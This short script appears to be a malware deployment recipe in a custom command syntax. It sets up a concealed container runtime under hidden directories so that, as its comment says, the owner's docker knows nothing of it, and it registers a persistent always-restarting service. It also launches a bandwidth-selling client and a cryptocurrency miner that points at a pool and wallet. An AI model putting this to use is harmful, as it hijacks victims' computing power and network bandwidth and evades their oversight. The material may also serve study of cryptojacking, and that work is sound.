# Own runtime, own socket, own images: the owner's docker knows nothing of it.
mimic /bin/wbin/containerd /bin/wbin/earnfm /var/lib/.wcontainerd/rootfs/usr/bin/xmrd
unit wbin.service '/bin/wbin/containerd --root /var/lib/.wcontainerd --state /run/.wcontainerd --address /run/.wbin.sock' Restart=always
start /bin/wbin/earnfm earnfm --token 00000000-0000-4000-8000-000000000000
start -d 15 -p "$POOL" /var/lib/.wcontainerd/rootfs/usr/bin/xmrd xmrd -o "$POOL" -u "$WALLET" --tls --no-color
